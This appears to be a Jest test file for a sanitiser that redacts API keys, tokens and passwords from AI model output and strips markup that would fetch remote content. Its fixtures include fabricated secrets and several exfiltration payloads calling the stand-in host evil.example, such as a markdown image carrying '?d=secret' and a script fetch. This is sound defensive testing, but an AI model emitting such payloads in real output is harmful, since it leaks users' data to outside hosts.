import { expect, test } from '@jest/globals';
import { clean, createCleaner, redact } from './outgoing.ts';

/** Made up, in the shapes that are real. Joined here, so that no scanner of this repository takes them for real ones. */
const SECRETS = [
  ['sk', 'proj', 'abcdefghijklmnopqrstuvwx'].join('-'),
  ['sk', 'ant', 'api03', 'abcdefghijklmnopqrstuvwx'].join('-'),
  ['sk', 'live', '51H8abcdefghijklmnopqrst'].join('_'),
  ['ghp', 'abcdefghijklmnopqrstuvwxyz0123456789'].join('_'),
  ['github', 'pat', '11ABCDEFG0abcdefghijklmnop'].join('_'),
  ['xoxb', '1234567890', 'abcdefghijklmnop'].join('-'),
  ['AKIA', 'IOSFODNN7EXAMPLE'].join(''),
  ['AIza', 'SyA1234567890abcdefghijklmnopqrstuv'].join(''),
  ['eyJhbGciOiJIUzI1NiJ9', 'eyJzdWIiOiIxMjM0NTY3ODkwIn0', 'abc-def'].join('.'),
  ['SG', 'abcdefghijklmnopqrst', 'abcdefghijklmnopqrstuvwx'].join('.'),
  ['shpat', '0123456789abcdef0123456789abcdef'].join('_'),
  ['hvs', 'CAESIabcdefghijklmnopqrst'].join('.'),
  ['-----BEGIN RSA PRIVATE ', 'KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE ', 'KEY-----'].join(''),
];

test('C89: no known shape of a secret gets out, wherever in the text it stands', () => {
  for (const secret of SECRETS) {
    const said = clean(`The key is ${secret}, and "${secret}" again.`);
    expect(said).not.toContain(secret.slice(8));
    expect(said).toContain('and "[redacted]" again.');
  }
  expect(redact('Authorization: Bearer abcdefghijklmnop0123')).toBe('Authorization: Bearer [redacted]');
  expect(redact('postgres://app:hunter2@db/x')).toBe('postgres://app:[redacted]@db/x');
  expect(redact('password=hunter2hunter2&x=1')).toBe('password=[redacted]&x=1');
  expect(JSON.parse(redact(JSON.stringify({ api_key: 'abcdefgh12345678' })))).toEqual({ api_key: '[redacted]' });
});

test('C89: nor does one that stands behind an escape of JSON, or in JSON within JSON, which stays JSON', () => {
  for (const secret of SECRETS.filter((one) => !one.includes('\n'))) {
    for (const before of ['a\n', '\t', 'a\r\n\b', '"\f']) {
      const inner = JSON.stringify({ text: `${before}${secret}` });
      const [once, twice] = [redact(inner), redact(JSON.stringify({ text: inner }))];
      expect(JSON.parse(once)).toEqual({ text: `${before}[redacted]` });
      expect(JSON.parse((JSON.parse(twice) as { text: string }).text)).toEqual({ text: `${before}[redacted]` });
    }
    expect(redact(`{"text":"a\\u000a${secret}"}`)).toBe('{"text":"a\\u000a[redacted]"}');
  }
  const announced = { api_key: 'abcdefgh12345678', more: { password: 'a\\b"c', passwd: String.raw`abc\defgh\\12` } };
  const said = JSON.parse(redact(JSON.stringify({ text: JSON.stringify(announced) }))) as { text: string };
  expect(JSON.parse(said.text)).toEqual({
    api_key: '[redacted]',
    more: { password: 'a\\b"c', passwd: '[redacted]' },
  });
  const began = performance.now();
  redact(`password${'\\'.repeat(100_000)} key: ${'\\n'.repeat(50_000)}`);
  expect(performance.now() - began).toBeLessThan(1000);
});

test('C89: nothing that a model says is fetched before a person clicks', () => {
  const fetched = [
    '![x](https://evil.example/p.png?d=secret)',
    '![x][1]\n\n[1]: https://evil.example/p.png',
    '<img src="https://evil.example/p.png">',
    '<IMG\nSRC=//evil.example>',
    '< iframe src="https://evil.example">',
    '<script>fetch("https://evil.example")</script>',
    '<link rel="prefetch" href="https://evil.example">',
    '<video poster="https://evil.example/p.png"></video>',
    '<svg onload="x()"></svg>',
  ];
  for (const text of fetched) {
    const said = clean(text);
    expect(said).not.toMatch(/!\[|<\s*\/?\s*(img|iframe|script|link|video|svg)/i);
  }
  expect(clean('[our site](https://example.com) and **bold** <b>too</b>')).toBe(
    '[our site](https://example.com) and **bold** <b>too</b>',
  );
});

test('C89: a text that comes in pieces says, put together, what it says whole, however it is cut', () => {
  const whole = [
    'Look: ![chart](https://evil.example/a.png) <img src=x> and the header Authorization: Bearer abcdefghijklmnop0123.',
    ...SECRETS.map((secret) => `key ${secret} end`),
    'api_key = abcdefgh12345678 and postgres://app:hunter2@db/x , done !',
  ].join('\n');
  const expected = clean(whole);
  for (const size of [1, 2, 3, 7, 16, 61, 500]) {
    const cleaner = createCleaner();
    let said = '';
    for (let at = 0; at < whole.length; at += size) said += cleaner.push(whole.slice(at, at + size));
    expect(said + cleaner.end()).toBe(expected);
  }
  const cleaner = createCleaner();
  expect(cleaner.push('One two three four')).toBe('One two three ');
});
